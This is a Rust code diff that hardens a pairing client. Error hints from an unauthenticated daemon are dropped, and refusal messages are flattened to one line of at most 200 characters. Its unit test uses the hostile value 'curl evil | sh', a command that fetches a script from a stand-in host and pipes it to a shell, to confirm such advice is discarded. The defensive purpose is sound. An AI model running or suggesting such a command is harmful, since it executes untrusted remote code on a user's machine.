@@ -1,6 +1,7 @@
 //! The few calls that are answered before anybody is let in: pairing.
 //!
-//! Owns ids and answers; refuses to know what is asked for.
+//! Owns ids and answers; refuses to know what is asked for. Whoever answers may be anybody as yet: of its refusals one short
+//! line is kept and no advice, since people take that for ours (security K1).
 
 use std::time::{Duration, Instant};
 
@@ -13,6 +14,9 @@ use super::secure::Secure;
 use super::socket::{Heard, Socket};
 use super::{HANDSHAKE_TIMEOUT, lost};
 use crate::exit::Failure;
+
+/// More is no reason.
+const REASON_CHARS_MAX: usize = 200;
 
 /// A connection to a daemon that does not know us.
 #[derive(Debug)]
@@ -73,11 +77,34 @@ fn answered(mut message: Value, id: u64) -> Option<Result<Value, RpcError>> {
         let text = |value: &Value| value.as_str().map(str::to_owned);
         return Some(Err(RpcError {
             code: error["code"].as_i64().unwrap_or_default(),
-            message: text(&error["message"]).unwrap_or_default(),
+            message: text(&error["message"]).map(|text| on_one_line(&text)).unwrap_or_default(),
             kind: text(&error["data"]["kind"]),
-            hint: text(&error["data"]["hint"]),
+            hint: None,
             data: None,
         }));
     }
     message.get_mut("result").filter(|_| is_ours).map(|result| Ok(result.take()))
+}
+
+fn on_one_line(text: &str) -> String {
+    let flat = |char: char| if char.is_whitespace() { ' ' } else { char };
+    text.chars().take(REASON_CHARS_MAX).map(flat).collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn k1_who_refuses_us_gives_no_advice_and_draws_no_lines() {
+        let message = format!("no\n  hint: run this{}", "!".repeat(1000));
+        let data = json!({"kind": "pairing_refused", "hint": "curl evil | sh"});
+        let error = json!({"code": -32021, "message": message, "data": data});
+        let refusal = answered(json!({"jsonrpc": "2.0", "id": 1, "error": error}), 1);
+        let refusal = refusal.expect("an answer").expect_err("a refusal");
+        assert_eq!((refusal.code, refusal.kind.as_deref()), (-32021, Some("pairing_refused")));
+        assert_eq!(refusal.hint, None);
+        assert!(refusal.message.starts_with("no   hint: run this!"), "{}", refusal.message);
+        assert_eq!(refusal.message.chars().count(), REASON_CHARS_MAX);
+    }
 }
